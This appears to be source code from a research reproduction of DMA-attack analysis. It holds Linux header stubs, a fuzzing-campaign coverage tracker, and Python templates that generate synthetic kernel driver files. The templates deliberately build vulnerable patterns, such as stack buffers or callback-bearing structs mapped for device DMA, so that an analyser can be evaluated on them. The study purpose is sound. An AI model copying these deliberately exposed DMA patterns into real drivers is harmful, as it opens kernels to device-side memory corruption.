    int (*ndo_open)(struct net_device *dev);
    int (*ndo_stop)(struct net_device *dev);
    int (*ndo_start_xmit)(struct sk_buff *skb, struct net_device *dev);
    void (*ndo_set_rx_mode)(struct net_device *dev);
    int (*ndo_set_mac_address)(struct net_device *dev, void *addr);
    int (*ndo_validate_addr)(struct net_device *dev);
    int (*ndo_do_ioctl)(struct net_device *dev, struct ifreq *ifr, int cmd);
    int (*ndo_change_mtu)(struct net_device *dev, int new_mtu);
    void (*ndo_tx_timeout)(struct net_device *dev);
    int (*ndo_set_features)(struct net_device *dev, netdev_features_t f);
    int (*ndo_vlan_rx_add_vid)(struct net_device *dev, u16 proto, u16 vid);
    int (*ndo_vlan_rx_kill_vid)(struct net_device *dev, u16 proto, u16 vid);
};

struct ethtool_ops {
    int (*get_link_ksettings)(struct net_device *dev, void *cmd);
    int (*set_link_ksettings)(struct net_device *dev, void *cmd);
    void (*get_drvinfo)(struct net_device *dev, void *info);
    u32 (*get_msglevel)(struct net_device *dev);
    void (*set_msglevel)(struct net_device *dev, u32 value);
    int (*nway_reset)(struct net_device *dev);
    u32 (*get_link)(struct net_device *dev);
    void (*get_ringparam)(struct net_device *dev, void *ring);
    int (*set_ringparam)(struct net_device *dev, void *ring);
    void (*get_pauseparam)(struct net_device *dev, void *pause);
    int (*set_pauseparam)(struct net_device *dev, void *pause);
    void (*get_strings)(struct net_device *dev, u32 sset, u8 *buf);
    void (*get_ethtool_stats)(struct net_device *dev, void *st, u64 *d);
    int (*get_sset_count)(struct net_device *dev, int sset);
    int (*get_coalesce)(struct net_device *dev, void *coal);
    int (*set_coalesce)(struct net_device *dev, void *coal);
};

struct napi_struct {
    struct net_device *dev;
    int (*poll)(struct napi_struct *napi, int budget);
    int weight;
};

struct net_device {
    struct net_device_ops *netdev_ops;
    struct ethtool_ops *ethtool_ops;
    struct device *dev_parent;
    u32 mtu;
    u32 flags;
    u8 dev_addr[6];
};

void *netdev_priv(struct net_device *dev);
int napi_gro_receive(struct napi_struct *napi, struct sk_buff *skb);
"""

DMA_MAPPING_H = """\
/* include/linux/dma-mapping.h -- the DMA API (section 2.3) */

struct device;
struct page;
struct scatterlist;

dma_addr_t dma_map_single(struct device *dev, void *ptr, size_t size,
                          int direction);
void dma_unmap_single(struct device *dev, dma_addr_t addr, size_t size,
                      int direction);
dma_addr_t dma_map_page(struct device *dev, struct page *page,
                        size_t offset, size_t size, int direction);
void dma_unmap_page(struct device *dev, dma_addr_t addr, size_t size,
                    int direction);
int dma_map_sg(struct device *dev, struct scatterlist *sg, int nents,
               int direction);
"""

SLAB_H = """\
/* include/linux/slab.h -- kernel heap */
void *kmalloc(size_t size, gfp_t flags);
void *kzalloc(size_t size, gfp_t flags);
void kfree(void *ptr);
"""

DEVICE_H = """\
/* include/linux/device.h -- driver core */

struct device_driver {
    char *name;
    int (*probe)(struct device *dev);
    int (*remove)(struct device *dev);
    void (*shutdown)(struct device *dev);
    int (*suspend)(struct device *dev, int state);
    int (*resume)(struct device *dev);
};

struct device {
    struct device *parent;
    struct device_driver *driver;
    void *driver_data;
    u64 dma_mask;
};

struct page_frag_cache {
    void *va;
    u32 offset;
    u32 pagecnt_bias;
};

struct scatterlist {
    unsigned long page_link;
    u32 offset;
    u32 length;
    dma_addr_t dma_address;
};

struct crypto_aead;
struct scsi_cmnd;
void *aead_request_ctx(struct aead_request *req);
void *scsi_cmd_priv(struct scsi_cmnd *cmd);
"""

#: path -> content for the shared include tree.
SHARED_HEADERS: dict[str, str] = {
    "include/linux/types.h": TYPES_H,
    "include/linux/skbuff.h": SKBUFF_H,
    "include/linux/netdevice.h": NETDEVICE_H,
    "include/linux/dma-mapping.h": DMA_MAPPING_H,
    "include/linux/slab.h": SLAB_H,
    "include/linux/device.h": DEVICE_H,
}
