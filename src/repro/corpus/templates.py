"""C source templates, one per vulnerability pattern.

Each ``render_*`` function emits a realistic driver file containing
``nr_calls`` dma-map call sites of its category, plus the surrounding
structure (structs, probe/teardown, helpers) a real driver has. The
returned exposure sets are in textual call-site order, for the
manifest.

The C subset used is co-designed with SPADE's parser: real syntax, no
preprocessor conditionals, one statement per ';'.
"""

from __future__ import annotations

from repro.sim.rng import DeterministicRng

_HEADER = """\
// SPDX-License-Identifier: GPL-2.0
/*
 * {drv}: {desc}
 *
 * Synthetic driver source, generated for SPADE analysis. Structural
 * patterns modeled on Linux 5.0 drivers.
 */

#include <linux/types.h>
#include <linux/slab.h>
#include <linux/skbuff.h>
#include <linux/netdevice.h>
#include <linux/dma-mapping.h>
#include <linux/device.h>

"""

_COMMON_DEV = """\
struct {drv}_dev {{
    struct device *dma_dev;
    struct net_device *netdev;
    u32 irq;
    u32 state;
}};

"""


def _header(drv: str, desc: str) -> str:
    return _HEADER.format(drv=drv, desc=desc) + \
        _COMMON_DEV.format(drv=drv)


def _probe_tail(drv: str) -> str:
    return f"""\
static int {drv}_probe(struct device *dev)
{{
    struct {drv}_dev *xdev;

    xdev = kzalloc(sizeof(struct {drv}_dev), GFP_KERNEL);
    if (!xdev)
        return -12;
    xdev->dma_dev = dev;
    dev->driver_data = xdev;
    return 0;
}}

static void {drv}_remove(struct device *dev)
{{
    kfree(dev->driver_data);
}}
"""


RenderResult = tuple[str, list[frozenset]]


def render_skb_type_c(drv: str, rng: DeterministicRng,
                      nr_calls: int) -> RenderResult:
    """RX refill: netdev/napi_alloc_skb buffer, skb->data mapped.

    Exposes skb_shared_info (type (b)) and, because the buffer comes
    from page_frag, type (c) co-location.
    """
    text = _header(drv, "ethernet RX ring management")
    text += f"""\
struct {drv}_rx_info {{
    struct sk_buff *skb;
    dma_addr_t dma;
}};

struct {drv}_ring {{
    struct {drv}_dev *xdev;
    struct device *dev;
    struct net_device *netdev;
    struct napi_struct napi;
    struct {drv}_rx_info rx_info[256];
    u32 rx_buf_len;
    u32 next_to_use;
}};

"""
    exposures = []
    for index in range(nr_calls):
        alloc = rng.choice(["netdev_alloc_skb(ring->netdev, "
                            "ring->rx_buf_len)",
                            "napi_alloc_skb(&ring->napi, "
                            "ring->rx_buf_len)"])
        text += f"""\
static int {drv}_alloc_rx_buffer_{index}(struct {drv}_ring *ring, u32 idx)
{{
    struct sk_buff *skb;
    dma_addr_t mapping;

    skb = {alloc};
    if (!skb)
        return -12;
    mapping = dma_map_single(ring->dev, skb->data, ring->rx_buf_len,
                             DMA_FROM_DEVICE);
    ring->rx_info[idx].skb = skb;
    ring->rx_info[idx].dma = mapping;
    ring->next_to_use = idx + 1;
    return 0;
}}

"""
        exposures.append(frozenset({"skb_shared_info", "type_c"}))
    text += _probe_tail(drv)
    return text, exposures


def render_skb_plain(drv: str, rng: DeterministicRng,
                     nr_calls: int) -> RenderResult:
    """TX path: the skb arrives as a parameter; skb->data mapped.

    Exposes skb_shared_info only -- the data buffer was not allocated
    via page_frag here, so no type (c).
    """
    text = _header(drv, "ethernet TX datapath")
    text += f"""\
struct {drv}_tx_queue {{
    struct {drv}_dev *xdev;
    struct device *dev;
    dma_addr_t desc_dma[512];
    u32 tail;
}};

"""
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static int {drv}_xmit_frame_{index}(struct sk_buff *skb,
                                    struct {drv}_tx_queue *txq)
{{
    dma_addr_t mapping;

    mapping = dma_map_single(txq->dev, skb->data, skb->len,
                             DMA_TO_DEVICE);
    txq->desc_dma[txq->tail] = mapping;
    txq->tail = txq->tail + 1;
    return 0;
}}

"""
        exposures.append(frozenset({"skb_shared_info"}))
    text += _probe_tail(drv)
    return text, exposures


def render_build_skb(drv: str, rng: DeterministicRng,
                     nr_calls: int) -> RenderResult:
    """page_frag buffer mapped, later wrapped with build_skb.

    Exposes a to-be-embedded skb_shared_info via build_skb (type (b))
    and page_frag co-location (type (c)).
    """
    text = _header(drv, "RX with build_skb fast path")
    text += f"""\
struct {drv}_rx_ring {{
    struct device *dev;
    struct page_frag_cache frag_cache;
    struct napi_struct napi;
    dma_addr_t next_dma;
    u32 buf_size;
    u32 truesize;
}};

"""
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static struct sk_buff *{drv}_receive_skb_{index}(struct {drv}_rx_ring *rx)
{{
    void *buf;
    struct sk_buff *skb;
    dma_addr_t dma;

    buf = page_frag_alloc(&rx->frag_cache, rx->truesize, GFP_ATOMIC);
    if (!buf)
        return 0;
    dma = dma_map_single(rx->dev, buf, rx->buf_size, DMA_FROM_DEVICE);
    rx->next_dma = dma;
    skb = build_skb(buf, rx->truesize);
    if (!skb)
        return 0;
    return skb;
}}

"""
        exposures.append(frozenset({"build_skb", "type_c"}))
    text += _probe_tail(drv)
    return text, exposures


def render_callback_direct(drv: str, rng: DeterministicRng,
                           nr_calls: int) -> RenderResult:
    """Type (a): the mapped buffer is embedded in a command struct
    that carries a completion callback on the same page.

    When the file has more than one call, the later ones route the
    buffer pointer through a helper function, exercising SPADE's
    caller backtracking.
    """
    buf_len = rng.choice([64, 96, 128, 192])
    text = _header(drv, "command ring with embedded response buffers")
    text += f"""\
struct {drv}_ring {{
    u32 head;
    u32 tail;
    dma_addr_t base;
}};

struct {drv}_cmd {{
    struct {drv}_ring *ring;
    void (*done)(struct {drv}_cmd *cmd, int status);
    u32 flags;
    u32 tag;
    u8 rsp_iu[{buf_len}];
}};

"""
    exposures = []
    text += f"""\
static int {drv}_queue_cmd(struct {drv}_dev *xdev, struct {drv}_cmd *op)
{{
    dma_addr_t addr;

    addr = dma_map_single(xdev->dma_dev, &op->rsp_iu, {buf_len},
                          DMA_FROM_DEVICE);
    op->flags = 1;
    op->tag = op->tag + 1;
    return 0;
}}

"""
    exposures.append(frozenset({"callback_direct"}))
    for _index in range(nr_calls - 1):
        text += f"""\
static dma_addr_t {drv}_map_rsp(struct {drv}_dev *xdev, void *buf, u32 len)
{{
    dma_addr_t addr;

    addr = dma_map_single(xdev->dma_dev, buf, len, DMA_FROM_DEVICE);
    return addr;
}}

static int {drv}_issue_cmd(struct {drv}_dev *xdev, struct {drv}_cmd *op)
{{
    dma_addr_t addr;

    addr = {drv}_map_rsp(xdev, &op->rsp_iu, {buf_len});
    op->flags = 2;
    return 0;
}}

"""
        exposures.append(frozenset({"callback_direct"}))
    text += _probe_tail(drv)
    return text, exposures


def render_callback_spoof(drv: str, rng: DeterministicRng,
                          nr_calls: int) -> RenderResult:
    """Type (a) variant: no function pointer directly in the mapped
    struct, but pointer fields reach ops tables whose callbacks a
    device can spoof by redirecting the pointers.
    """
    buf_len = rng.choice([128, 192, 240])
    nr_ops = rng.randint(3, 6)
    ops_fields = "\n".join(
        f"    int (*op_{i})(struct {drv}_desc *desc, u32 arg);"
        for i in range(nr_ops))
    text = _header(drv, "descriptor ring with indirect ops tables")
    text += f"""\
struct {drv}_desc;

struct {drv}_desc_ops {{
{ops_fields}
}};

struct {drv}_desc {{
    struct {drv}_desc_ops *ops;
    struct net_device *ndev;
    u32 len;
    u32 state;
    u8 payload[{buf_len}];
}};

"""
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static int {drv}_post_desc_{index}(struct {drv}_dev *xdev,
                                   struct {drv}_desc *desc)
{{
    dma_addr_t addr;

    addr = dma_map_single(xdev->dma_dev, &desc->payload, desc->len,
                          DMA_BIDIRECTIONAL);
    desc->state = {index + 1};
    return 0;
}}

"""
        exposures.append(frozenset({"callback_spoof"}))
    text += _probe_tail(drv)
    return text, exposures


def render_private_data(drv: str, rng: DeterministicRng,
                        nr_calls: int) -> RenderResult:
    """Row 4: buffers reached through netdev_priv-style private-data
    APIs, which place driver state on pages the OS manages."""
    api = rng.choice(["netdev_priv", "aead_request_ctx", "scsi_cmd_priv"])
    holder = {"netdev_priv": "struct net_device *ndev",
              "aead_request_ctx": "struct aead_request *req",
              "scsi_cmd_priv": "struct scsi_cmnd *cmd"}[api]
    holder_arg = holder.split("*")[1]
    text = _header(drv, f"DMA areas inside {api}() private data")
    text += f"""\
struct {drv}_priv {{
    dma_addr_t rx_dma;
    u32 rx_len;
    u8 rx_area[512];
    u8 stats_block[128];
}};

"""
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static int {drv}_init_dma_area_{index}({holder}, struct device *dmadev)
{{
    struct {drv}_priv *priv;
    dma_addr_t dma;

    priv = {api}({holder_arg});
    dma = dma_map_single(dmadev, priv->rx_area, priv->rx_len,
                         DMA_FROM_DEVICE);
    priv->rx_dma = dma;
    return 0;
}}

"""
        exposures.append(frozenset({"private_data"}))
    text += _probe_tail(drv)
    return text, exposures


def render_stack(drv: str, rng: DeterministicRng,
                 nr_calls: int) -> RenderResult:
    """Row 5: an on-stack buffer is mapped, exposing the kernel stack
    (return addresses!) at page granularity."""
    buf_len = rng.choice([16, 32, 64])
    text = _header(drv, "EEPROM access helpers")
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static int {drv}_read_eeprom_{index}(struct {drv}_dev *xdev, u32 off)
{{
    u8 cmd_buf[{buf_len}];
    dma_addr_t dma;

    cmd_buf[0] = off;
    dma = dma_map_single(xdev->dma_dev, cmd_buf, {buf_len},
                         DMA_TO_DEVICE);
    return 0;
}}

"""
        exposures.append(frozenset({"stack"}))
    text += _probe_tail(drv)
    return text, exposures


def render_page_frag_plain(drv: str, rng: DeterministicRng,
                           nr_calls: int) -> RenderResult:
    """Row 6 remainder: a raw page_frag buffer is mapped (type (c)
    co-location with its chunk neighbours), no skb involved."""
    text = _header(drv, "control message buffers from page_frag")
    exposures = []
    for index in range(nr_calls):
        text += f"""\
static dma_addr_t {drv}_map_ctrl_buf_{index}(struct {drv}_dev *xdev,
                                             u32 len)
{{
    void *buf;
    dma_addr_t dma;

    buf = netdev_alloc_frag(len);
    if (!buf)
        return 0;
    dma = dma_map_single(xdev->dma_dev, buf, len, DMA_TO_DEVICE);
    return dma;
}}

"""
        exposures.append(frozenset({"type_c"}))
    text += _probe_tail(drv)
    return text, exposures


def render_benign(drv: str, rng: DeterministicRng,
                  nr_calls: int) -> RenderResult:
    """The non-vulnerable remainder: flat kmalloc'd buffers.

    Statically clean -- the residual risk here is dynamic random
    co-location (type (d)), which is D-KASAN's job, not SPADE's.
    """
    text = _header(drv, "firmware download buffers")
    exposures = []
    for index in range(nr_calls):
        direction = rng.choice(["DMA_TO_DEVICE", "DMA_FROM_DEVICE"])
        text += f"""\
static int {drv}_fw_chunk_{index}(struct {drv}_dev *xdev, u32 len)
{{
    u8 *buf;
    dma_addr_t dma;

    buf = kmalloc(len, GFP_KERNEL);
    if (!buf)
        return -12;
    dma = dma_map_single(xdev->dma_dev, buf, len, {direction});
    xdev->state = {index + 1};
    return 0;
}}

"""
        exposures.append(frozenset())
    text += _probe_tail(drv)
    return text, exposures


RENDERERS = {
    "skb_type_c": render_skb_type_c,
    "skb_plain": render_skb_plain,
    "build_skb": render_build_skb,
    "callback_direct": render_callback_direct,
    "callback_spoof": render_callback_spoof,
    "private_data": render_private_data,
    "stack": render_stack,
    "page_frag_plain": render_page_frag_plain,
    "benign": render_benign,
}
