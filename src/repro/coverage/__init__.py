"""repro.coverage -- campaign-wide coverage observability.

What a fuzzing campaign *exercised*, measured deterministically:

* :class:`~repro.coverage.signature.CoverageCollector` streams a
  replay's trace events into a sparse feature vector (event kinds x
  sites, IOTLB state transitions, invalidation-window buckets, D-KASAN
  classes) hashed into a stable backend-aware digest -- the per-seed
  ``coverage`` record every campaign JSONL result carries;
* :class:`~repro.coverage.store.CoverageMap` is the persistent,
  content-addressed, merge-able accumulation of those records across
  seeds, shards, and backend lanes (atomic JSON beside the results
  file);
* :class:`~repro.coverage.saturation.SaturationTracker` turns per-seed
  novelty into the live new-features/s + plateau progress line.

Everything here is a pure function of (seed, backend, corpus): the
byte-identity invariants the campaign already pins for findings hold
for coverage too, which is what makes the map mergeable at all.
"""

from repro.coverage.saturation import (DEFAULT_PLATEAU_AFTER,
                                       SaturationTracker,
                                       format_saturation)
from repro.coverage.signature import (COVERAGE_CATEGORIES,
                                      SIGNATURE_VERSION,
                                      CoverageCollector, coverage_digest,
                                      coverage_lane, coverage_record,
                                      feature_group)
from repro.coverage.store import (DEFAULT_LANE, CoverageMap,
                                  coverage_map_path)

__all__ = [
    "COVERAGE_CATEGORIES", "CoverageCollector", "CoverageMap",
    "DEFAULT_LANE", "DEFAULT_PLATEAU_AFTER", "SIGNATURE_VERSION",
    "SaturationTracker", "coverage_digest", "coverage_lane",
    "coverage_map_path", "coverage_record", "feature_group",
    "format_saturation",
]
