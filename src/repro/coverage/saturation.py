"""Coverage-saturation tracking for live campaign progress.

A campaign saturates when new seeds stop contributing new features --
the signal that tells an operator (and, next, a coverage-guided
mutator) that more random seeds are no longer buying coverage. The
tracker is a tiny streaming consumer of per-seed novelty counts; the
formatter produces the one-line view the campaign progress stream
prints next to the worker STALLED flags.
"""

from __future__ import annotations

import time

#: consecutive novelty-free seeds before the line flags a plateau
DEFAULT_PLATEAU_AFTER = 25


class SaturationTracker:
    """Streaming new-features-per-second over a campaign's lifetime."""

    def __init__(self, *, plateau_after: int = DEFAULT_PLATEAU_AFTER,
                 clock=time.monotonic) -> None:
        self.plateau_after = plateau_after
        self._clock = clock
        # the clock starts at construction, not at the first feed:
        # the first seed's new/s should be measured over the time it
        # took to produce that seed, not over the microseconds between
        # its feed() and the first rate query
        self._started_at: float = clock()
        self.nr_seeds = 0
        self.nr_features = 0
        self.last_novel = 0
        self.seeds_since_novel = 0

    def feed(self, novel: int) -> None:
        """Account one completed seed that contributed *novel* new
        features map-wide."""
        self.nr_seeds += 1
        self.last_novel = novel
        if novel > 0:
            self.nr_features += novel
            self.seeds_since_novel = 0
        else:
            self.seeds_since_novel += 1

    @property
    def plateaued(self) -> bool:
        return self.seeds_since_novel >= self.plateau_after

    @property
    def new_features_per_s(self) -> float:
        elapsed = self._clock() - self._started_at
        if elapsed <= 0:
            return 0.0
        return self.nr_features / elapsed

    @property
    def new_features_per_seed(self) -> float:
        if not self.nr_seeds:
            return 0.0
        return self.nr_features / self.nr_seeds


def format_saturation(tracker: SaturationTracker) -> str:
    """``coverage: 141 features | +3 new | 1.2 new/s`` (+ PLATEAU)."""
    parts = [f"coverage: {tracker.nr_features} features",
             f"+{tracker.last_novel} new",
             f"{tracker.new_features_per_s:.1f} new/s"]
    if tracker.plateaued:
        parts.append(f"PLATEAU ({tracker.seeds_since_novel} seeds "
                     f"without a new feature)")
    return " | ".join(parts)
