"""Deterministic coverage signatures derived from trace events.

A **coverage signature** is a sparse feature vector plus a stable
digest, computed from the flight-recorder events one dynamic replay
emitted. Features are strings ``<group>/<detail>`` so reports can
aggregate by subsystem; every count is a pure function of the replayed
(seed, backend) pair, which is what makes the signature a safe
campaign-wide identity: the same seed on the same backend produces a
byte-identical ``coverage`` record whether it ran inline, in a warm
worker, in a shard, or under a recoverable tooling-fault plan.

Feature groups:

* ``dma/``, ``iommu/``, ``dkasan/`` -- raw (category, event-name)
  occurrence counts from the replay's trace stream;
* ``site/`` -- D-KASAN findings keyed by their allocation site
  (``site/<kind>@<path:line>``), the per-call-site axis the
  differential oracle scores;
* ``iotlb/`` -- IOTLB state transitions: stale read/write hits
  (hit-then-stale), and per-drain victim/batch classes bucketed
  power-of-two (``iotlb/drain-drop:bK``, ``iotlb/drain-batch:bK``);
* ``window/`` -- deferred-invalidation window widths bucketed
  power-of-two microseconds (``window/bK``), with strict-mode
  synchronous invalidations as ``window/sync`` (zero-width).

The collector is **streaming**: it observes every event the recorder
emits (via :meth:`TraceRecorder.add_observer`), so the signature never
depends on the ring capacity or on which old events the drop-oldest
ring discarded -- ``--trace-events 0`` and ``--trace-events 64`` yield
the same coverage.
"""

from __future__ import annotations

import hashlib
import json

#: trace categories a coverage signature is derived from. "fault" is
#: deliberately excluded so recoverable tooling-fault plans cannot
#: perturb the signature; "net"/"mem" are excluded to match the
#: campaign replay recorder (and keep per-seed vectors small).
COVERAGE_CATEGORIES = ("dma", "iommu", "dkasan")

#: bump when the feature derivation changes incompatibly
SIGNATURE_VERSION = 1


def _bucket(value: float) -> int:
    """Power-of-two bucket index, same convention as trace histograms:
    bucket *i* holds values in ``[2**(i-1), 2**i)``; bucket 0 holds
    values below 1 (including 0 and negatives)."""
    if value >= 1:
        return int(value).bit_length()
    return 0


def coverage_lane(backend) -> str:
    """The CoverageMap lane a run lands in: the resolved backend name,
    with the default (``None``/``"intel-vtd"``) normalized to
    ``"intel-vtd"`` so explicit and implicit default runs share one
    lane (the same normalization ``findings_digest`` relies on)."""
    from repro import backends as backend_registry
    return backend_registry.backend_label(backend) or "intel-vtd"


class CoverageCollector:
    """Streaming feature accumulator over one replay's trace events.

    Feed it every emitted :class:`~repro.trace.recorder.TraceEvent`
    (``recorder.add_observer(collector.feed)``), then call
    :meth:`record` once the replay finished.
    """

    def __init__(self) -> None:
        self.nr_events = 0
        self._counts: dict[str, int] = {}
        #: open fq_defer timestamps awaiting their drain
        self._pending_defers: list[float] = []

    def _add(self, feature: str, delta: int = 1) -> None:
        self._counts[feature] = self._counts.get(feature, 0) + delta

    def feed(self, event) -> None:
        """Observe one trace event (the recorder observer hook)."""
        category = event.category
        if category not in COVERAGE_CATEGORIES:
            return
        self.nr_events += 1
        name = event.name
        self._add(f"{category}/{name}")
        args = event.args
        if category == "dkasan":
            site = args.get("site")
            if site:
                self._add(f"site/{name}@{site}")
            return
        if category != "iommu":
            return
        if name == "stale_hit":
            kind = "stale-write" if args.get("write") else "stale-read"
            self._add(f"iotlb/{kind}")
        elif name == "fq_defer":
            self._pending_defers.append(event.ts_us)
        elif name == "fq_drain":
            # a drain retires every pending defer (one global flush
            # per batch): each closed window is one pow-2 bucket hit
            for ts in self._pending_defers:
                self._add(f"window/b{_bucket(event.ts_us - ts)}")
            self._pending_defers.clear()
            self._add(f"iotlb/drain-drop:"
                      f"b{_bucket(args.get('iotlb_dropped', 0))}")
            self._add(f"iotlb/drain-batch:"
                      f"b{_bucket(args.get('nr_pending', 0))}")
        elif name == "inv_sync":
            self._add("window/sync")

    @property
    def features(self) -> dict[str, int]:
        """The sparse feature vector accumulated so far."""
        return dict(self._counts)

    def record(self, *, backend=None) -> dict:
        """The per-seed ``coverage`` record attached to JSONL results."""
        return coverage_record(self._counts, backend=backend)


def coverage_digest(features: dict[str, int], *, backend=None) -> str:
    """Hex SHA-256 over the canonical (backend, feature-vector) pair.

    Backend-aware: the same behavior on a different IOMMU model hashes
    differently, so cross-backend maps never alias lanes.
    """
    body = json.dumps({"backend": coverage_lane(backend),
                       "features": features,
                       "v": SIGNATURE_VERSION},
                      sort_keys=True, separators=(",", ":"))
    return hashlib.sha256(body.encode("utf-8")).hexdigest()


def coverage_record(features: dict[str, int], *, backend=None) -> dict:
    return {
        "digest": coverage_digest(features, backend=backend),
        "nr_features": len(features),
        "features": {name: features[name] for name in sorted(features)},
    }


def feature_group(feature: str) -> str:
    """The subsystem prefix of a feature (``"dkasan/..."`` ->
    ``"dkasan"``); features with no slash group as ``"other"``."""
    group, _, rest = feature.partition("/")
    return group if rest else "other"
