"""The persistent CoverageMap: campaign-wide coverage accumulation.

One atomic JSON document (written tempfile + ``os.replace``, the same
torn-write discipline as the perfcache store and the shard claims)
holding every observed seed's coverage record, grouped into **lanes**
-- one lane per IOMMU backend, so ``--backends`` campaigns and
cross-backend diffs never alias. The canonical serialization sorts
every key, which gives the merge its headline property: a map merged
from shard maps is **byte-identical** to the map an unsharded run of
the same campaign writes, because the content is a pure set union of
deterministic per-seed records.

The map is content-addressed via :attr:`CoverageMap.digest` (SHA-256
over the canonical body), so "are these two campaigns' coverage equal"
is one hash comparison.
"""

from __future__ import annotations

import hashlib
import json
import os

from repro.coverage.signature import feature_group

SCHEMA_VERSION = 1

#: lane label used when a record carries no backend annotation (the
#: default intel-vtd replay path drops the field for byte-identity)
DEFAULT_LANE = "intel-vtd"


def coverage_map_path(output: str) -> str:
    """The map that rides beside a campaign's results file:
    ``campaign/results.jsonl`` -> ``campaign/results.coverage.json``."""
    stem, _ext = os.path.splitext(output)
    return f"{stem}.coverage.json"


class CoverageMap:
    """Per-seed coverage records plus global-first-seen accounting."""

    def __init__(self) -> None:
        #: lane -> seed -> coverage record ({"digest", "features", ...})
        self._lanes: dict[str, dict[int, dict]] = {}
        self._seen: set[str] | None = set()

    # -- accumulation --------------------------------------------------------

    def observe(self, seed: int, coverage: dict, *,
                lane: str = DEFAULT_LANE) -> int:
        """Record one seed's coverage; returns how many of its features
        were novel map-wide (0 on re-observation of a known seed)."""
        features = coverage.get("features", {})
        seen = self.feature_set()
        novel = sum(1 for name in features if name not in seen)
        seen.update(features)
        self._lanes.setdefault(lane, {})[int(seed)] = {
            "digest": coverage.get("digest", ""),
            "features": {name: int(count)
                         for name, count in features.items()},
        }
        return novel

    def observe_record(self, record: dict) -> int:
        """Observe one campaign JSONL result record (no-op unless it is
        a completed record carrying a ``coverage`` block)."""
        coverage = record.get("coverage")
        if record.get("status") != "ok" or not coverage:
            return 0
        return self.observe(record["seed"], coverage,
                            lane=record.get("backend", DEFAULT_LANE))

    def merge(self, other: "CoverageMap") -> int:
        """Union *other* into this map; returns seeds newly added.
        Determinism makes conflicts vacuous: an already-present
        (lane, seed) keeps the existing record."""
        added = 0
        for lane, seeds in other._lanes.items():
            mine = self._lanes.setdefault(lane, {})
            for seed, record in seeds.items():
                if seed not in mine:
                    mine[seed] = {"digest": record.get("digest", ""),
                                  "features": dict(
                                      record.get("features", {}))}
                    added += 1
        self._seen = None
        return added

    # -- aggregate views -----------------------------------------------------

    @property
    def lanes(self) -> list[str]:
        return sorted(self._lanes)

    @property
    def nr_seeds(self) -> int:
        return sum(len(seeds) for seeds in self._lanes.values())

    def seeds(self, lane: str) -> dict[int, dict]:
        return dict(self._lanes.get(lane, {}))

    def feature_set(self) -> set[str]:
        if self._seen is None:
            self._seen = {name
                          for seeds in self._lanes.values()
                          for record in seeds.values()
                          for name in record.get("features", {})}
        return self._seen

    @property
    def nr_features(self) -> int:
        return len(self.feature_set())

    def feature_stats(self) -> dict[str, dict]:
        """feature -> {count, nr_seeds, first_seen}. ``first_seen`` is
        the *minimum* (lane, seed) exhibiting the feature -- an
        order-free definition, so sharded and unsharded accumulations
        agree."""
        stats: dict[str, dict] = {}
        for lane in sorted(self._lanes):
            for seed in sorted(self._lanes[lane]):
                record = self._lanes[lane][seed]
                for name, count in record.get("features", {}).items():
                    slot = stats.setdefault(
                        name, {"count": 0, "nr_seeds": 0,
                               "first_seen": [lane, seed]})
                    slot["count"] += count
                    slot["nr_seeds"] += 1
        return stats

    def group_stats(self) -> dict[str, dict]:
        """subsystem -> {nr_features, count} for the density heatmap."""
        groups: dict[str, dict] = {}
        for name, stat in self.feature_stats().items():
            slot = groups.setdefault(feature_group(name),
                                     {"nr_features": 0, "count": 0})
            slot["nr_features"] += 1
            slot["count"] += stat["count"]
        return groups

    def seed_ranking(self) -> list[dict]:
        """Seeds ranked by features unique to them map-wide (then by
        total features carried), the ``coverage top`` view."""
        stats = self.feature_stats()
        rows = []
        for lane in sorted(self._lanes):
            for seed, record in sorted(self._lanes[lane].items()):
                features = record.get("features", {})
                unique = sum(1 for name in features
                             if stats[name]["nr_seeds"] == 1)
                rows.append({"lane": lane, "seed": seed,
                             "unique_features": unique,
                             "nr_features": len(features)})
        rows.sort(key=lambda row: (-row["unique_features"],
                                   -row["nr_features"],
                                   row["lane"], row["seed"]))
        return rows

    # -- persistence ---------------------------------------------------------

    def to_json(self) -> dict:
        return {"schema": SCHEMA_VERSION,
                "lanes": {lane: {str(seed): self._lanes[lane][seed]
                                 for seed in sorted(self._lanes[lane])}
                          for lane in sorted(self._lanes)}}

    def canonical(self) -> str:
        """The exact bytes :meth:`save` writes (minus no trailing
        newline difference): sorted keys, compact separators."""
        return json.dumps(self.to_json(), sort_keys=True,
                          separators=(",", ":"))

    @property
    def digest(self) -> str:
        return hashlib.sha256(
            self.canonical().encode("utf-8")).hexdigest()

    def save(self, path: str) -> str:
        from repro import durability
        return durability.atomic_write_text(path, self.canonical()
                                            + "\n")

    @classmethod
    def from_json(cls, body: dict) -> "CoverageMap":
        if body.get("schema") != SCHEMA_VERSION:
            from repro.errors import CampaignError
            raise CampaignError(
                f"unsupported coverage map schema "
                f"{body.get('schema')!r} (expected {SCHEMA_VERSION})")
        cover = cls()
        for lane, seeds in body.get("lanes", {}).items():
            cover._lanes[lane] = {
                int(seed): {"digest": record.get("digest", ""),
                            "features": dict(record.get("features", {}))}
                for seed, record in seeds.items()}
        cover._seen = None
        return cover

    @classmethod
    def load(cls, path: str) -> "CoverageMap":
        """Load a saved map; a torn/corrupt file raises
        :class:`~repro.errors.CampaignError` (never a half-parsed
        map), so callers can fall back to rebuilding from records."""
        try:
            with open(path, encoding="utf-8") as handle:
                body = json.load(handle)
        except ValueError as exc:
            from repro.errors import CampaignError
            raise CampaignError(f"coverage map {path}: torn or "
                                f"corrupt JSON: {exc}")
        if not isinstance(body, dict):
            from repro.errors import CampaignError
            raise CampaignError(f"coverage map {path}: not a JSON "
                                f"object")
        return cls.from_json(body)

    @classmethod
    def from_records(cls, records: dict[int, dict]) -> "CoverageMap":
        cover = cls()
        for seed in sorted(records):
            cover.observe_record(records[seed])
        return cover

    @classmethod
    def from_results(cls, path: str) -> "CoverageMap":
        """Build a map straight from a campaign results JSONL file."""
        from repro.campaign.results import load_records
        return cls.from_records(load_records(path))
