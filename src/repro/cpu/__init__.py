"""CPU-side execution model: kernel image, gadgets, NX, ROP/JOP."""

from repro.cpu.text import KernelImage, Symbol
from repro.cpu.gadgets import Gadget, GadgetScanner
from repro.cpu.exec import Credentials, ExecutionResult, Executor, MachineState
from repro.cpu.shadowstack import ShadowStack

__all__ = [
    "KernelImage",
    "Symbol",
    "Gadget",
    "GadgetScanner",
    "Credentials",
    "ExecutionResult",
    "Executor",
    "MachineState",
